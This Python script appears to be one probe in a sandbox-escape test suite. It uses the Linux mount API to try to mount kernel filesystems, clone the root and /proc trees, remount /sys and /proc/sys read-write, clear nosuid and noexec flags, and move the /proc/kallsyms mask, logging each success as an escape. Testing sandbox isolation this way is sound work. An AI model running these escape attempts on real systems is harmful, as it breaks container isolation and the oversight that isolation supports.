"""Mount through the new mount API: fsopen/fsconfig/fsmount, open_tree(OPEN_TREE_CLONE), fspick, move_mount and mount_setattr."""
import ctypes
import os

from _attack import ESCAPES, NOTES, cstr, en, finish, libc, sysc  # noqa: F401

import struct  # noqa: E402

SYS_open_tree, SYS_move_mount, SYS_fsopen, SYS_fsconfig, SYS_fsmount, SYS_fspick = 428, 429, 430, 431, 432, 433
SYS_mount_setattr = 442
AT_FDCWD = -100
AT_EMPTY_PATH, AT_RECURSIVE = 0x1000, 0x8000
OPEN_TREE_CLONE, OPEN_TREE_CLOEXEC = 1, 0o2000000
FSCONFIG_SET_FLAG, FSCONFIG_SET_STRING, FSCONFIG_CMD_CREATE, FSCONFIG_CMD_RECONFIGURE = 0, 1, 6, 7
MOVE_MOUNT_F_EMPTY_PATH = 4
MOUNT_ATTR_RDONLY, MOUNT_ATTR_NOSUID, MOUNT_ATTR_NODEV, MOUNT_ATTR_NOEXEC = 1, 2, 4, 8


def main():
    target = "/tmp/fbx-newmnt"
    os.makedirs(target, exist_ok=True)
    for fstype in ("tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "devtmpfs", "mqueue", "overlay", "binfmt_misc"):
        fd, e = sysc(SYS_fsopen, cstr(fstype), 1)
        if fd < 0:
            NOTES.append("fsopen(%s): %s" % (fstype, en(e)))
            continue
        if fstype == "cgroup":
            sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, cstr("memory"), None, 0)
        r, e = sysc(SYS_fsconfig, fd, FSCONFIG_CMD_CREATE, None, None, 0)
        if r < 0:
            ESCAPES.append("fsopen(%s) gave a filesystem context (create then failed: %s)" % (fstype, en(e)))
            os.close(fd)
            continue
        mfd, e = sysc(SYS_fsmount, fd, 1, 0)
        if mfd >= 0:
            ESCAPES.append("fsmount created a detached %s mount" % fstype)
            r, e = sysc(SYS_move_mount, mfd, cstr(""), AT_FDCWD, cstr(target), MOVE_MOUNT_F_EMPTY_PATH)
            if r == 0:
                ESCAPES.append("move_mount attached %s at %s" % (fstype, target))
            os.close(mfd)
        else:
            ESCAPES.append("fsopen(%s)+create succeeded (fsmount: %s)" % (fstype, en(e)))
        os.close(fd)
    # clone existing trees: an unmasked copy of /proc or of the root
    for src in ("/proc", "/", "/sys", "/dev"):
        fd, e = sysc(SYS_open_tree, AT_FDCWD, cstr(src), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE)
        if fd >= 0:
            ESCAPES.append("open_tree(%s, OPEN_TREE_CLONE) gave a detached copy of the mount tree" % src)
            r, e = sysc(SYS_move_mount, fd, cstr(""), AT_FDCWD, cstr(target), MOVE_MOUNT_F_EMPTY_PATH)
            if r == 0:
                ESCAPES.append("attached the copy of %s at %s" % (src, target))
            os.close(fd)
        else:
            NOTES.append("open_tree(%s, CLONE): %s" % (src, en(e)))
    # reconfigure a read-only superblock
    for src in ("/proc/sys", "/sys"):
        fd, e = sysc(SYS_fspick, AT_FDCWD, cstr(src), 1)
        if fd >= 0:
            r1, _ = sysc(SYS_fsconfig, fd, FSCONFIG_SET_FLAG, cstr("rw"), None, 0)
            r2, e2 = sysc(SYS_fsconfig, fd, FSCONFIG_CMD_RECONFIGURE, None, None, 0)
            ESCAPES.append("fspick(%s) gave a reconfiguration context (reconfigure rw: %s)"
                           % (src, "ok" if r2 == 0 else en(e2)))
            os.close(fd)
        else:
            NOTES.append("fspick(%s): %s" % (src, en(e)))
    # clear read-only / nosuid flags with mount_setattr
    for path, clr in (("/proc/sys", MOUNT_ATTR_RDONLY), ("/sys", MOUNT_ATTR_RDONLY), ("/", MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV),
                      ("/dev", MOUNT_ATTR_NOEXEC)):
        attr = ctypes.create_string_buffer(struct.pack("QQQQ", 0, clr, 0, 0))
        r, e = sysc(SYS_mount_setattr, AT_FDCWD, cstr(path), AT_RECURSIVE, attr, 32)
        if r == 0:
            ESCAPES.append("mount_setattr cleared flags %#x on %s" % (clr, path))
        else:
            NOTES.append("mount_setattr(%s): %s" % (path, en(e)))
    # move a mask away
    r, e = sysc(SYS_move_mount, AT_FDCWD, cstr("/proc/kallsyms"), AT_FDCWD, cstr(target), 0)
    if r == 0:
        ESCAPES.append("move_mount moved the /proc/kallsyms mask away")
    else:
        NOTES.append("move_mount(/proc/kallsyms): %s" % en(e))


if __name__ == "__main__":
    finish(main)
